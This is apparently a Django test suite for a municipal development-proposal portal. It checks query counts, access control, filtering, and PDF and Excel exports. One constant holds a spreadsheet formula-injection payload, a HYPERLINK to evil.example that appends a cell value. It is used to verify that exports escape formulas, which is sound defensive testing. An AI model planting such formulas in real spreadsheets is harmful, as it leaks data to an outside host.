import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from binjai_portal.core.models import Region, Urusan
from musrenbang import services
from musrenbang.models import Forum, Proposal, Status

from .conftest import PATH  # noqa: F401
from .factories import proposal_data

pytestmark = pytest.mark.django_db


def bulk(cycle, citizen, n, start=1000):
    villages = list(Region.objects.filter(level="kelurahan", code__startswith="12.75."))
    bidang = list(Urusan.objects.filter(level="bidang"))
    Proposal.objects.bulk_create(
        [
            Proposal(
                cycle=cycle,
                reference=f"{cycle.plan_year}-{start + i:05d}",
                proposer=citizen,
                status=Status.SUBMITTED,
                kelurahan=villages[i % len(villages)],
                category=bidang[i % len(bidang)],
                title=f"Usulan {i}",
                problem="x",
                activity="y",
                rt="001",
                rw="001",
                address="Jl. X",
                volume=Decimal(1),
                volume_unit="unit",
                estimated_cost=Decimal(1000),
                beneficiaries=5,
                latitude=Decimal("3.6"),
                longitude=Decimal("98.48"),
                support_count=i % 7,
            )
            for i in range(n)
        ]
    )


@pytest.mark.parametrize("name", ["musrenbang:index", "musrenbang:map"])
def test_public_list_and_map_cost_the_same_queries_at_5_and_500(
    client, cycle, citizen, name, django_assert_max_num_queries
):
    bulk(cycle, citizen, 5)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as few:
        assert client.get(reverse(name)).status_code == 200
    bulk(cycle, citizen, 495, start=2000)
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = client.get(reverse(name), {"page": "2"} if name.endswith("index") else {})
    assert response.status_code == 200
    assert len(few.captured_queries) <= 12


def test_public_detail_costs_the_same_queries_with_many_supports(
    client, make_proposal, make_citizen, django_assert_max_num_queries
):
    p = make_proposal(Status.SUBMITTED)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as before:
        client.get(p.get_absolute_url())
    for _ in range(5):
        services.proposal_support(proposal=p, user=make_citizen())
    with django_assert_max_num_queries(len(before.captured_queries)):
        response = client.get(p.get_absolute_url())
    assert "5 dukungan" in response.content.decode()


def test_filters_and_bad_params_never_fail(client, make_proposal, kelurahan):
    p = make_proposal(Status.SUBMITTED, title="Lampu jalan gang Mawar")
    make_proposal(Status.SUBMITTED, title="Posyandu baru")
    html = client.get(reverse("musrenbang:index"), {"q": "lampu"}).content.decode()
    assert p.title in html and "Posyandu baru" not in html
    html = client.get(
        reverse("musrenbang:index"), {"kelurahan": kelurahan.pk, "status": "submitted"}
    ).content.decode()
    assert p.title in html
    for params in (
        {"page": "x"},
        {"page": "999"},
        {"kecamatan": "abc"},
        {"status": "zzz"},
        {"cycle": "-1"},
        {"q": "a" * 500},
    ):
        assert client.get(reverse("musrenbang:index"), params).status_code == 200
    assert client.get(reverse("musrenbang:similar"), {"kelurahan": "x"}).status_code == 200
    assert client.get("/musrenbang/usulan/nope/").status_code == 404


def test_drafts_are_not_public_and_name_is_hidden_unless_chosen(client, make_proposal, citizen):
    draft = make_proposal()
    assert client.get(draft.get_absolute_url()).status_code == 404
    hidden = make_proposal(Status.SUBMITTED)
    shown = make_proposal(Status.SUBMITTED, show_proposer_name=True)
    assert citizen.full_name not in client.get(hidden.get_absolute_url()).content.decode()
    assert citizen.full_name in client.get(shown.get_absolute_url()).content.decode()
    client.force_login(citizen)
    assert client.get(draft.get_absolute_url()).status_code == 200


def test_officer_of_another_kelurahan_gets_404(
    client, make_proposal, make_staff, kelurahan_officer
):
    p = make_proposal(Status.SUBMITTED)
    other = make_staff("petugas_kelurahan", "kelurahan-12-75-01-1001")
    client.force_login(other)
    r = client.post(reverse("musrenbang:officer-act", args=[p.reference]), {"action": "verify"})
    assert r.status_code == 404
    assert Proposal.objects.get(pk=p.pk).status == Status.SUBMITTED
    client.force_login(kelurahan_officer)
    r = client.post(reverse("musrenbang:officer-act", args=[p.reference]), {"action": "verify"})
    assert r.status_code == 302
    assert Proposal.objects.get(pk=p.pk).status == Status.VERIFIED


def test_citizen_cannot_reach_officer_pages(client, citizen, make_proposal):
    p = make_proposal(Status.SUBMITTED)
    client.force_login(citizen)
    assert client.get(reverse("musrenbang:work-queue")).status_code == 404
    assert (
        client.post(
            reverse("musrenbang:officer-act", args=[p.reference]), {"action": "verify"}
        ).status_code
        == 404
    )
    assert client.get(reverse("musrenbang:forum")).status_code == 404


def test_refused_action_shows_a_message_and_changes_nothing(
    client, make_proposal, kelurahan_officer
):
    p = make_proposal(Status.SUBMITTED)
    client.force_login(kelurahan_officer)
    r = client.post(
        reverse("musrenbang:officer-act", args=[p.reference]),
        {"action": "reject", "note": ""},
        follow=True,
    )
    assert "Catatan wajib diisi" in r.content.decode()
    r = client.post(
        reverse("musrenbang:officer-act", args=[p.reference]), {"action": "hack"}, follow=True
    )
    assert r.status_code == 200
    assert Proposal.objects.get(pk=p.pk).status == Status.SUBMITTED


def test_submit_page_outside_the_window_shows_the_dates(client, cycle, citizen):
    from datetime import timedelta

    type(cycle).objects.filter(pk=cycle.pk).update(
        kelurahan_opens=cycle.kelurahan_opens - timedelta(days=30),
        kelurahan_closes=cycle.kelurahan_opens - timedelta(days=20),
    )
    client.force_login(citizen)
    html = client.get(reverse("musrenbang:create")).content.decode()
    assert "hanya dapat diajukan" in html
    client.post(reverse("musrenbang:create"), {"title": "X"})
    assert Proposal.objects.count() == 0


def test_citizen_creates_and_submits_through_the_pages(client, cycle, citizen, kelurahan):
    client.force_login(citizen)
    data = proposal_data(kelurahan)
    data.update(category=data["category"].pk, kelurahan=kelurahan.pk)
    r = client.post(reverse("musrenbang:create"), data)
    p = Proposal.objects.get()
    assert r.status_code == 302 and r["Location"] == p.get_absolute_url()
    client.post(reverse("musrenbang:submit", args=[p.reference]))
    assert Proposal.objects.get().status == Status.SUBMITTED
    assert p.reference in client.get(reverse("musrenbang:mine")).content.decode()


def test_support_once_through_the_page(client, make_proposal, make_citizen):
    p = make_proposal(Status.SUBMITTED)
    url = reverse("musrenbang:support", args=[p.reference])
    assert client.post(url).status_code == 302  # anonymous: to the login page
    client.force_login(make_citizen())
    client.post(url)
    client.post(url)
    assert Proposal.objects.get(pk=p.pk).support_count == 1


def test_berita_acara_pdf_and_excel_hold_the_ranked_list_in_order(
    client, make_proposal, kelurahan_officer, kelurahan, cycle, make_staff
):
    a = make_proposal(Status.VERIFIED, title="Alpha drainase")
    b = make_proposal(Status.VERIFIED, title="Bravo posyandu")
    c = make_proposal(Status.VERIFIED, title="Charlie lampu")
    services.forum_rank_set(
        actor=kelurahan_officer,
        level=Forum.Level.KELURAHAN,
        region=kelurahan,
        cycle=cycle,
        ordered_ids=[b.pk, c.pk, a.pk],
    )
    client.force_login(kelurahan_officer)
    client.post(
        reverse("musrenbang:forum"),
        {"held_on": "2026-02-03", "place": "Aula", "participant_count": "41", "notes": "Sepakat"},
    )
    r = client.get(reverse("musrenbang:forum-xlsx"))
    assert r["Content-Disposition"].startswith("attachment")
    ws = load_workbook(io.BytesIO(r.content)).active
    titles = [
        row[2]
        for row in ws.iter_rows(values_only=True)
        if row[1] and "-" in str(row[1]) and str(row[1]).startswith(str(cycle.plan_year))
    ]
    assert titles == ["Bravo posyandu", "Charlie lampu", "Alpha drainase"]
    assert any(row[1] == "41" for row in ws.iter_rows(values_only=True))

    r = client.get(reverse("musrenbang:forum-pdf"))
    assert r["Content-Type"] == "application/pdf"
    import pikepdf

    with pikepdf.open(io.BytesIO(r.content)) as pdf:
        assert len(pdf.pages) >= 1
    text = _pdf_text(r.content)
    assert text.index("Bravo") < text.index("Charlie") < text.index("Alpha")
    assert "Pimpinan forum" in text
    # another kelurahan's officer exports their own (empty) forum, never this one
    client.force_login(make_staff("petugas_kelurahan", "kelurahan-12-75-01-1001"))
    assert "Bravo" not in _pdf_text(client.get(reverse("musrenbang:forum-pdf")).content)


def _pdf_text(content: bytes) -> str:
    import pikepdf

    out = []
    with pikepdf.open(io.BytesIO(content)) as pdf:
        for page in pdf.pages:
            for operands, op in pikepdf.parse_content_stream(page):
                if str(op) == "Tj":
                    out.append(bytes(operands[0]).decode("latin-1"))
    return " ".join(out)


def test_forum_rank_by_number_with_htmx(client, make_proposal, kelurahan_officer):
    a, b = make_proposal(Status.VERIFIED), make_proposal(Status.VERIFIED)
    client.force_login(kelurahan_officer)
    r = client.post(
        reverse("musrenbang:forum-rank"), {"proposal": b.pk, "rank": 1}, HTTP_HX_REQUEST="true"
    )
    assert r.status_code == 200
    html = r.content.decode()
    assert html.index(f'data-proposal="{b.pk}"') < html.index(f'data-proposal="{a.pk}"')
    r = client.post(
        reverse("musrenbang:forum-rank"), {"proposal": "x", "rank": "y"}, HTTP_HX_REQUEST="true"
    )
    assert r.status_code == 200 and "alert" in r.content.decode()


EVIL = '=HYPERLINK("http://evil.example/?x="&B7,"Klik")'


def test_ranked_excel_writes_formula_titles_as_text(
    client, make_proposal, kelurahan_officer, kelurahan, cycle
):
    """CSV/formula injection: a citizen's title never becomes a live formula."""
    evil = make_proposal(Status.VERIFIED, title=EVIL)
    plain = make_proposal(Status.VERIFIED, title="@SUM(A1:A9) lampu jalan")
    services.forum_rank_set(
        actor=kelurahan_officer,
        level=Forum.Level.KELURAHAN,
        region=kelurahan,
        cycle=cycle,
        ordered_ids=[evil.pk, plain.pk],
    )
    client.force_login(kelurahan_officer)
    client.post(
        reverse("musrenbang:forum"),
        {"held_on": "2026-02-03", "place": "-Aula", "participant_count": "41", "notes": "+62 812"},
    )
    ws = load_workbook(io.BytesIO(client.get(reverse("musrenbang:forum-xlsx")).content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + EVIL in values and "'@SUM(A1:A9) lampu jalan" in values
    assert "'-Aula" in values and "'+62 812" in values
    # Numbers stay numbers: rank, support count and cost are typed cells.
    rank_cells = [c for c in cells if c.column == 1 and c.data_type == "n"]
    assert [c.value for c in rank_cells] == [1, 2]
